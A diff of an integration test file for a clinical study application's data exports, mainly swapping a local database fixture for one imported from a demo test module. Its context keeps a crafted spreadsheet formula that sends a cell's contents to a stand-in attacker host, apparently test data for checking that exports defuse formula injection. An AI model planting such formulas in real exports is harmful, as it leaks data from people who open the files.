@@ -30,16 +30,10 @@ from studyapp.safety import events
 from studyapp.safety.models import AdverseEvent
 from studyapp.subjects.models import ENROLLED, Subject
 from studyapp.visits import summary
-from tests.conftest import TemplateSpec
 from tests.integration.exports_helpers import members, produce, read_csv, read_xpt, same_cell
+from tests.integration.test_demo import database_template  # noqa: F401 - the demo study, one template
 
 CRAFTED = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
-
-
-@pytest.fixture
-def database_template(site_clock):
-    day = site_today().isoformat()
-    return TemplateSpec(f"demo-exports-{day}", lambda app: load_demo())
 
 
 @pytest.fixture
